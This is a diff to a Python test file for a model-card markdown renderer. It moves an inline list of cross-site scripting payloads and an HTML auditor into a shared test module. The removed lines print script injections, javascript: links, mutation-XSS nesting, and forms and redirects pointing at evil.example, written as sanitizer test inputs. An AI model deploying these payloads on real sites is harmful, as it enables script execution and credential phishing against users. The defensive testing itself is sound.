@@ -1,78 +1,21 @@
 """Markdown from anyone: rendered for readers, harmless to them."""
 
-import re
-from html.parser import HTMLParser
-
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from models_registry.services.cards import ATTRIBUTES, TAGS, Place, render
+from models_registry.services.cards import render
+from models_registry.services.markdown import Place
+from tests import hostile
 
 PLACE = Place(blob="/ann/net/blob/main/", resolve="/ann/net/resolve/main/")
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><script>alert(1)</script></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "<a href=' javascript:alert(1)'>x</a>",
-    "<a href='\x01javascript:alert(1)'>x</a>",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
-    '![x](" onerror="alert(1))',
-    '![a](x.png "" onerror=alert(1) "")',
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=x.swf></object><embed src=x.swf>",
-    "<form action=//evil.example><input name=password type=password><button>go</button></form>",
-    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
-    "<div style='position:fixed;inset:0'>x</div>",
-    "<a class='stretched-link btn btn-primary' href=//evil.example>x</a>",
-    "<div id=content data-copy=x hx-get=/settings hx-trigger=load data-hx-post=/x>x</div>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<a href=x title='\"><img src=x onerror=alert(1)>'>x</a>",
-    "```html\n<script>alert(1)</script>\n```",
-    '```"><img src=x onerror=alert(1)>\nx\n```',
-    "<video src=//evil.example/x.mp4 autoplay onplay=alert(1)></video>",
-    "<input type=password><input type=image src=//evil.example>",
-    "\u202e[x](https://a.example)\u0000<b>",
-]
-
-
-class Auditor(HTMLParser):
-    """Fails on anything that a card may not hold."""
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        assert tag in TAGS
-        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel"}
-        for name, value in attrs:
-            assert name in allowed
-            if name in {"href", "src"}:
-                assert re.match(r"(https?://|mailto:|/|#card-)", value or "", re.IGNORECASE), value
-                assert name == "href" or not value.startswith("//")
-            if name == "id":
-                assert value.startswith("card-")
-            if name == "class":
-                assert not {"btn", "stretched-link", "btn-primary"} & set(value.split())
-            if tag == "input" and name == "type":
-                assert value == "checkbox"
-
 
 def audit(html: str) -> None:
-    auditor = Auditor()
-    auditor.feed(html)
-    auditor.close()
+    hostile.audit(html, ids="card-")
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("text", hostile.TEXTS)
 def test_nothing_hostile_survives_rendering(text):
     audit(render(text, PLACE))
     audit(render(f"text {text} text", PLACE))
@@ -82,7 +25,9 @@ def test_nothing_hostile_survives_rendering(text):
 @settings(max_examples=150, deadline=None)
 @given(
     st.lists(
-        st.sampled_from([*HOSTILE, "<", ">", '"', "'", "`", "[", "](", ")", "\n\n", "**", "# ", "> ", "&quot;", "x"]),
+        st.sampled_from(
+            [*hostile.TEXTS, "<", ">", '"', "'", "`", "[", "](", ")", "\n\n", "**", "# ", "> ", "&quot;", "x"]
+        ),
         max_size=12,
     )
 )
